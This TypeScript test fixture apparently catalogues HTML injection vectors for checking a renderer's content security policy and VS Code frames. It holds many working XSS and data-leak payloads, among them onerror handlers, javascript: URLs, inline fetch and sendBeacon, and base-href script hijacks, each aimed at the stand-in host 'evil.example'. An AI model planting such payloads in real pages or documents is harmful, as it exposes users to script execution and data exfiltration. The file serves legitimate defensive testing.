/** One way in which markup takes data out of a page, or runs script in it. */
export interface HtmlVector {
  name: string;
  /** @param to An address below the attacker's host; @param nonce that of the document's own script. */
  html: (to: string, nonce: string) => string;
  /** Needs a click, on the element with the class `click`. */
  click?: true;
  /**
   * What stops it where there is no policy: the frames that VS Code builds around a document, or the browser, which does
   * not do such a thing in a frame, or does it where no server sees it.
   */
  stoppedBy?: 'frames' | 'browser';
  /** Leaks in spite of the policy where there are no frames of VS Code. */
  beyondPolicy?: true;
  /** No policy and no frame governs it: the name of the host alone gets out. Only a renderer that never makes it helps. */
  ungoverned?: true;
}

const images: HtmlVector[] = [
  { name: 'img', html: (to) => `<img src="${to}">` },
  { name: 'img-srcset', html: (to) => `<img srcset="${to} 1x">` },
  { name: 'img-unquoted', html: (to) => `<IMG/SRC=${to}>` },
  { name: 'picture', html: (to) => `<picture><source srcset="${to}"><img></picture>` },
  { name: 'input-image', html: (to) => `<input type="image" src="${to}">` },
  { name: 'table-background', html: (to) => `<table background="${to}"><tr><td>x</table>` },
  { name: 'td-background', html: (to) => `<table><tr><td background="${to}">x</table>` },
  { name: 'svg-image', html: (to) => `<svg width="9" height="9"><image href="${to}" width="9" height="9"/></svg>` },
  {
    name: 'svg-image-xlink',
    html: (to) => `<svg width="9" height="9"><image xlink:href="${to}" width="9" height="9"/></svg>`,
  },
  {
    name: 'svg-fe-image',
    html: (to) =>
      `<svg width="9" height="9"><filter id="f"><feImage href="${to}"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>`,
  },
  { name: 'svg-use', html: (to) => `<svg><use href="${to}#x"/></svg>`, stoppedBy: 'browser' },
  {
    name: 'noscript-img',
    html: (to) => `<noscript><p title="</noscript><img src=${to}>">`,
    stoppedBy: 'frames',
  },
];

const media: HtmlVector[] = [
  { name: 'audio', html: (to) => `<audio src="${to}" preload="auto"></audio>` },
  { name: 'video', html: (to) => `<video src="${to}" preload="auto"></video>` },
  { name: 'video-source', html: (to) => `<video preload="auto"><source src="${to}"></video>` },
  { name: 'video-poster', html: (to) => `<video poster="${to}"></video>` },
  { name: 'track', html: (to) => `<video crossorigin><track default kind="subtitles" src="${to}"></video>` },
];

const frames: HtmlVector[] = [
  { name: 'iframe', html: (to) => `<iframe src="${to}"></iframe>` },
  { name: 'iframe-srcdoc', html: (to) => `<iframe srcdoc="<img src=${to}>"></iframe>` },
  {
    name: 'iframe-javascript',
    html: (to) =>
      `<iframe src="javascript:void(parent.document.body.append(Object.assign(new Image(),{src:'${to}'})))"></iframe>`,
  },
  { name: 'object', html: (to) => `<object data="${to}"></object>` },
  { name: 'embed', html: (to) => `<embed src="${to}">` },
  { name: 'fenced-frame', html: (to) => `<fencedframe src="${to}"></fencedframe>`, stoppedBy: 'browser' },
];

const links: HtmlVector[] = [
  { name: 'link-stylesheet', html: (to) => `<link rel="stylesheet" href="${to}">` },
  { name: 'link-prefetch', html: (to) => `<link rel="prefetch" href="${to}">` },
  { name: 'link-preload', html: (to) => `<link rel="preload" as="image" href="${to}">` },
  { name: 'link-modulepreload', html: (to) => `<link rel="modulepreload" href="${to}">` },
  {
    name: 'link-preconnect',
    html: (to) => `<link rel="preconnect" href="${to.replace('http:', 'https:')}">`,
    ungoverned: true,
  },
  { name: 'link-dns-prefetch', html: (to) => `<link rel="dns-prefetch" href="${to}">`, stoppedBy: 'browser' },
  { name: 'link-icon', html: (to) => `<link rel="icon" href="${to}">`, stoppedBy: 'browser' },
  { name: 'link-manifest', html: (to) => `<link rel="manifest" href="${to}">`, stoppedBy: 'browser' },
];

const styles: HtmlVector[] = [
  { name: 'style-attribute', html: (to) => `<p style="background:url(${to})">x</p>` },
  { name: 'style-escaped', html: (to) => `<p style="background:u\\72l(${to})">x</p>` },
  { name: 'style-image-set', html: (to) => `<p style="background:image-set(url(${to}) 1x)">x</p>` },
  { name: 'style-list', html: (to) => `<ul style="list-style:url(${to})"><li>x</ul>` },
  { name: 'style-content', html: (to) => `<p style="content:url(${to})">x</p>` },
  { name: 'style-element', html: (to) => `<style>body{background:url(${to})}</style>` },
  { name: 'style-import', html: (to) => `<style>@import url(${to});</style>` },
  {
    name: 'style-font',
    html: (to) => `<style>@font-face{font-family:f;src:url(${to})}p{font-family:f}</style><p>x</p>`,
  },
  { name: 'svg-style', html: (to) => `<svg><style>@import url(${to});</style></svg>` },
];

const scripts: HtmlVector[] = [
  { name: 'script-src', html: (to) => `<script src="${to}x.js"></script>` },
  { name: 'script-inline', html: (to) => `<script>__pwned();new Image().src='${to}'</script>` },
  { name: 'script-module', html: (to) => `<script type="module">import '${to}x.js'</script>` },
  { name: 'script-fetch', html: (to) => `<script>fetch('${to}')</script>` },
  { name: 'script-beacon', html: (to) => `<script>navigator.sendBeacon('${to}')</script>` },
  { name: 'script-socket', html: (to) => `<script>new WebSocket('${to.replace('http:', 'ws:')}')</script>` },
  { name: 'script-svg', html: (to) => `<svg><script href="${to}x.js"></script></svg>` },
  { name: 'script-wrong-nonce', html: (to) => `<script nonce="rivulet" src="${to}x.js"></script>` },
  { name: 'event-error', html: (to) => `<img src="data:," onerror="__pwned();new Image().src='${to}'">` },
  { name: 'event-svg', html: (to) => `<svg onload="new Image().src='${to}'"></svg>` },
  { name: 'event-toggle', html: (to) => `<details open ontoggle="new Image().src='${to}'">x</details>` },
  {
    name: 'event-click',
    html: (to) => `<button onclick="new Image().src='${to}'" class="click">x</button>`,
    click: true,
  },
  {
    name: 'event-animation',
    html: (to) =>
      `<style>@keyframes a{}</style><p style="animation:a" onanimationstart="new Image().src='${to}'">x</p>`,
  },
  {
    name: 'base-script',
    html: (to, nonce) => `<base href="${to}"><script nonce="${nonce}" src="x.js"></script>`,
  },
  { name: 'base-img', html: (to) => `<base href="${to}"><img src="x.png">` },
];

const clicks: HtmlVector[] = [
  {
    name: 'meta-refresh',
    html: (to) => `<meta http-equiv="refresh" content="0;url=${to}">`,
    stoppedBy: 'frames',
    beyondPolicy: true,
  },
  {
    name: 'a',
    html: (to) => `<a class="click" href="${to}">x</a>`,
    click: true,
    stoppedBy: 'frames',
    beyondPolicy: true,
  },
  {
    name: 'a-blank',
    html: (to) => `<a class="click" target="_blank" href="${to}">x</a>`,
    click: true,
    stoppedBy: 'frames',
    beyondPolicy: true,
  },
  {
    name: 'a-ping',
    html: (to) => `<a class="click" href="#x" ping="${to}">x</a>`,
    click: true,
    stoppedBy: 'frames',
  },
  {
    name: 'a-download',
    html: (to) => `<a class="click" download href="${to}">x</a>`,
    click: true,
    stoppedBy: 'frames',
    beyondPolicy: true,
  },
  {
    name: 'a-javascript',
    html: (to) => `<a class="click" href="javascript:void(new Image().src='${to}')">x</a>`,
    click: true,
    stoppedBy: 'frames',
  },
  {
    name: 'area',
    html: (to) =>
      `<img usemap="#m" width="9" height="9"><map name="m"><area class="click" shape="default" href="${to}"></map>`,
    click: true,
    stoppedBy: 'frames',
    beyondPolicy: true,
  },
  {
    name: 'svg-a',
    html: (to) => `<svg><a class="click" href="${to}"><text y="9">x</text></a></svg>`,
    click: true,
    stoppedBy: 'frames',
    beyondPolicy: true,
  },
  {
    name: 'form',
    html: (to) => `<form action="${to}"><button class="click">x</button></form>`,
    click: true,
    stoppedBy: 'frames',
  },
  {
    name: 'button-formaction',
    html: (to) => `<form><button class="click" formaction="${to}">x</button></form>`,
    click: true,
    stoppedBy: 'frames',
  },
  {
    name: 'input-image-form',
    html: (to) => `<form action="${to}"><input class="click" type="image" src="data:,"></form>`,
    click: true,
    stoppedBy: 'frames',
  },
];

/** The attacker's domain: reserved for documentation, it belongs to nobody. */
export const attackDomain = 'evil.example';

/** Markup that loads, connects, navigates or runs, written into a document as it stands. */
export const htmlVectors: HtmlVector[] = [...images, ...media, ...frames, ...links, ...styles, ...scripts, ...clicks];

/** Where a vector leaks to. */
export function addressOf({ name }: HtmlVector, domain = attackDomain): string {
  return `http://${name}.${domain}/`;
}
